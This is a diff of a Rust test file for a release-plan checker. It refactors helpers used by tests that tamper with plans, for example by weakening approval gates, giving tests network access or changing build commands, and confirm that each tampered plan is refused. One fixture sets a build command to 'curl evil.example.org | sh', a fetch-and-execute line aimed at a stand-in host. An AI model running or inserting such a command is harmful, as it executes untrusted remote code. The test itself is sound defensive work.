@@ -1,18 +1,21 @@
 //! Plans that were changed by hand are refused, each for the promise that it breaks.
 
 use lifeboat::plan::{Plan, check};
-use lifeboat::step::{Exposure, Isolation, PlannedStep, Step, StepId, StepKey};
+use lifeboat::step::{
+    Build, Bundle, Exposure, Gate, Isolation, Kind, PlannedStep, Point, Promote, StepId, StepKey, Test,
+};
 use proptest::prelude::*;
 
 use crate::model::configs::{Shape, shapes};
+use crate::model::made::id;
 
 fn step<'a>(plan: &'a mut Plan, id: &str) -> &'a mut PlannedStep {
     plan.steps.iter_mut().find(|s| s.id.as_str() == id).unwrap_or_else(|| panic!("no step {id}"))
 }
 
-fn id(text: &str) -> StepId {
-    let (kind, rest) = text.split_once('/').unwrap_or((text, ""));
-    StepId::new(kind, &rest.split('/').filter(|p| !p.is_empty()).collect::<Vec<_>>())
+/// A step's data, to be changed.
+fn data<'a, K: Kind>(plan: &'a mut Plan, id: &str) -> &'a mut K {
+    K::of_mut(&mut step(plan, id).step).unwrap_or_else(|| panic!("{id} is no {}", K::NAME))
 }
 
 fn unneed(plan: &mut Plan, of: &str, need: &str) {
@@ -29,7 +32,7 @@ fn need(plan: &mut Plan, of: &str, need: &str) {
 }
 
 fn point_at_nothing(plan: &mut Plan) {
-    let Step::Point(point) = &mut step(plan, "point/s0").step else { panic!("no point") };
+    let point = data::<Point>(plan, "point/s0");
     point.lines.clear();
 }
 
@@ -104,37 +107,37 @@ const CHANGES: &[Change] = &[
     }),
     ("nobody must approve", "somebody must approve", |p| p.threshold = 0),
     ("a gate that asks for fewer", "its threshold and embargo are the plan's", |p| {
-        let Step::Gate(gate) = &mut step(p, "gate").step else { panic!("no gate") };
+        let gate = data::<Gate>(p, "gate");
         gate.threshold = 1;
     }),
     ("a gate that forgets the embargo", "its threshold and embargo are the plan's", |p| {
-        let Step::Gate(gate) = &mut step(p, "gate").step else { panic!("no gate") };
+        let gate = data::<Gate>(p, "gate");
         gate.not_before = None;
     }),
     ("a gate that shows one line's sums only", "people approve every line's sums", |p| {
-        let Step::Gate(gate) = &mut step(p, "gate").step else { panic!("no gate") };
+        let gate = data::<Gate>(p, "gate");
         gate.checksums.pop();
     }),
     ("a gate that hides a carried fix", "people approve the commits", |p| {
-        let Step::Gate(gate) = &mut step(p, "gate").step else { panic!("no gate") };
+        let gate = data::<Gate>(p, "gate");
         gate.carries.clear();
     }),
     ("a test with network", "tests run without network", |p| {
-        let Step::Test(test) = &mut step(p, "test/release-1.0.0/t0").step else { panic!("no test") };
+        let test = data::<Test>(p, "test/release-1.0.0/t0");
         test.job.isolation = Isolation::Network;
     }),
     ("a step that reads what it does not wait for", "a step waits for everything that it reads", |p| {
         // Every other line's sums are there too, but not this one's.
-        let Step::Bundle(bundle) = &mut step(p, "bundle/release-1.0.0").step else { panic!("no bundle") };
+        let bundle = data::<Bundle>(p, "bundle/release-1.0.0");
         bundle.prepare = id("prepare/release-3.0.0");
     }),
     ("a step that reads another line's outcome", "made for its own line", |p| {
-        let Step::Promote(promote) = &mut step(p, "promote/s0/release-1.0.0").step else { panic!("no promote") };
-        promote.seal = Some(id("seal/release-3.0.0"));
+        let promote = data::<Promote>(p, "promote/s0/release-1.0.0");
+        promote.0.seal = Some(id("seal/release-3.0.0"));
     }),
     ("a step that reads the wrong kind", "it reads what `checksum` makes", |p| {
-        let Step::Promote(promote) = &mut step(p, "promote/s0/release-1.0.0").step else { panic!("no promote") };
-        promote.checksum = id("bundle/release-1.0.0");
+        let promote = data::<Promote>(p, "promote/s0/release-1.0.0");
+        promote.0.checksum = id("bundle/release-1.0.0");
     }),
     ("another base than reviewed", "what is prepared is what the plan shows", |p| {
         p.lines[0].base = p.lines[1].base.clone();
@@ -157,7 +160,7 @@ const CHANGES: &[Change] = &[
         step(p, "build/release-1.0.0/t0").key = StepKey(lifeboat::model::Sha256::of(b"another"));
     }),
     ("another command", "a step's key is the digest of its inputs", |p| {
-        let Step::Build(build) = &mut step(p, "build/release-1.0.0/t0").step else { panic!("no build") };
+        let build = data::<Build>(p, "build/release-1.0.0/t0");
         build.job.run = vec!["curl evil.example.org | sh".to_owned()];
     }),
     ("another format", "its format is", |p| p.format = 0),
